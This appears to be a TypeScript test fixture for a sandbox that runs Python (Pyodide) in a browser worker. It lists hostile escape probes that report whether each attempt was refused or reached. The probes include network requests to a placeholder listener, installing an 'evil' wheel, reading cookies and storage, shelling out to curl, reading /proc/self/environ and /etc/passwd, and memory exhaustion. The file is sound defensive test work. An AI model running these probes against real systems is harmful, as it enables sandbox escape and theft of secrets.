// Programs in Python that try to reach something: each attempt says what became of it, and URL_ listens.

/** Statements of an `async` function; what it returns was reached, what it raises was refused. */
export const hostilePython: Readonly<Record<string, string>> = {
  'fetch of the worker': 'return await js.fetch("URL_/fetch")',
  'fetch of its prototype': 'return await script("WorkerGlobalScope.prototype.fetch.call(self, \'URL_/prototype\')")',
  'a request without an answer to read':
    "return await script(\"WorkerGlobalScope.prototype.fetch.call(self, 'URL_/blind', {mode: 'no-cors', method: 'POST', body: 'x'})\")",
  'a synchronous request': `
    request = js.XMLHttpRequest.new()
    request.open("GET", "URL_/sync", False)
    request.send()
    return request.status or None`,
  'a request with events': `
    return await script("new Promise((done, no) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = () => no(Error()); r.open('GET', 'URL_/xhr'); r.send(); })")`,
  'a socket of the web':
    "return await script(\"new Promise((done, no) => { const s = new WebSocket('URL_/socket'.replace('http', 'ws')); s.onopen = done; s.onerror = () => no(Error()); })\")",
  'a stream of events':
    'return await script("new Promise((done, no) => { const s = new EventSource(\'URL_/events\'); s.onopen = done; s.onerror = () => no(Error()); })")',
  'a transport of the web': 'return await js.WebTransport.new("URL_/transport".replace("http", "https")).ready',
  'a beacon': 'return js.navigator.sendBeacon("URL_/beacon", "x") or None',
  'a font': 'return await js.FontFace.new("f", "url(URL_/font)").load()',
  'a script': 'return js.importScripts("URL_/script.js") or "loaded"',
  'a module': 'return await script("import(\'URL_/module.js\')")',
  'a nested worker':
    'return await script("new Promise((done, no) => { const w = new Worker(URL.createObjectURL(new Blob([\\"fetch(\'URL_/nested\').then(() => postMessage(1), () => postMessage(0))\\"]))); w.onmessage = ({ data }) => data ? done(data) : no(Error()); w.onerror = () => no(Error()); })")',
  'a worker from there':
    'return await script("new Promise((done, no) => { const w = new Worker(\'URL_/worker.js\'); w.onmessage = done; w.onerror = () => no(Error()); })")',
  'a service worker': 'return await js.navigator.serviceWorker.register("/sw.js")',
  'the page above': 'return js.parent.document.title',
  'the window on top': 'return js.top.location.href',
  'the opener': 'return js.opener.name',
  'the document': 'return js.document.cookie',
  'cookies of the worker': 'return await js.cookieStore.getAll()',
  'the storage of the page': 'return js.localStorage.getItem("secret")',
  'the storage of the tab': 'return js.sessionStorage.getItem("secret")',
  'a database': `
    return await script("new Promise((done, no) => { const o = indexedDB.open('a'); o.onsuccess = done; o.onerror = () => no(Error()); })")`,
  'the cache': 'return await js.caches.open("a")',
  'the files of the origin': 'return await js.navigator.storage.getDirectory()',
  pyfetch: `
    from pyodide.http import pyfetch
    answer = await pyfetch("URL_/pyfetch")
    return answer.status == 200 or None`,
  open_url: `
    from pyodide.http import open_url
    return open_url("URL_/open-url").read()`,
  micropip: `
    import micropip
    return await micropip.install("URL_/evil-1.0-py3-none-any.whl")`,
  'a package of pyodide': `
    import pyodide_js
    await pyodide_js.loadPackage("URL_/evil-1.0-py3-none-any.whl")
    import evil
    return evil`,
  urllib: `
    import urllib.request
    return urllib.request.urlopen("URL_/urllib", timeout=2).read()`,
  'http.client': `
    import http.client
    from urllib.parse import urlparse
    connection = http.client.HTTPConnection(urlparse("URL_").netloc, timeout=2)
    connection.request("GET", "/client")
    return connection.getresponse().status`,
  'a socket': `
    import socket
    from urllib.parse import urlparse
    found = urlparse("URL_")
    with socket.create_connection((found.hostname, found.port), timeout=2) as made:
        made.send(b"GET /raw HTTP/1.0\\r\\n\\r\\n")
        return made.recv(10)`,
  asyncio: `
    import asyncio
    from urllib.parse import urlparse
    found = urlparse("URL_")
    return await asyncio.wait_for(asyncio.open_connection(found.hostname, found.port), 2)`,
  'a process': `
    import subprocess
    return subprocess.run(["curl", "URL_/process"], check=True)`,
  'the shell': `
    import os
    return os.system("curl URL_/shell") == 0 or None`,
  'a file of the host': 'return open("/proc/self/environ").read() or open("/etc/passwd").read()',
  'memory without end': 'return bytearray(2 ** 40)',
  'memory of the browser': 'return js.ArrayBuffer.new(2 ** 40)',
};

/** Paths that URL_ hears where nothing guards the frame: these attempts are made as they are meant. */
export const heardWithoutGuards: readonly string[] = [
  '/prototype',
  '/blind',
  '/sync',
  '/xhr',
  '/socket',
  '/events',
  '/font',
  '/script.js',
  '/module.js',
  '/nested',
  '/open-url',
];

/** Reach of the same frame into the origin of the page. */
export const hadWithoutGuards: readonly string[] = ['a database', 'the cache', 'the files of the origin'];

/**
 * One program: pyodide takes seconds to begin. `script` runs JavaScript in its worker as the policy allows it: `eval` is refused, and
 * with it whatever it was to try.
 */
export function inOneProgram(attempts: Readonly<Record<string, string>>): string {
  const made = Object.entries(attempts).map(([name, code], at) => {
    const body = code.startsWith('\n') ? code.slice(1) : `    ${code}`;
    return `async def attempt${at}():\n${body}\nawait attempt(${JSON.stringify(name)}, attempt${at})`;
  });
  return `import asyncio
import js
from pyodide.ffi import to_js

async def script(code):
    text = to_js(["self.made = (async () => " + code + ")()"])
    js.importScripts(js.URL.createObjectURL(js.Blob.new(text)))
    return await js.self.made

async def attempt(name, work):
    try:
        found = await asyncio.wait_for(work(), 5)
    except BaseException as problem:
        print(f"{name}: refused")
        return
    gone = found is None or getattr(found, "ok", None) is False
    print(f"{name}: refused" if gone else f"{name}: REACHED {str(found)[:60]}")

${made.join('\n')}
print("all tried", await script("6 * 7"))`;
}
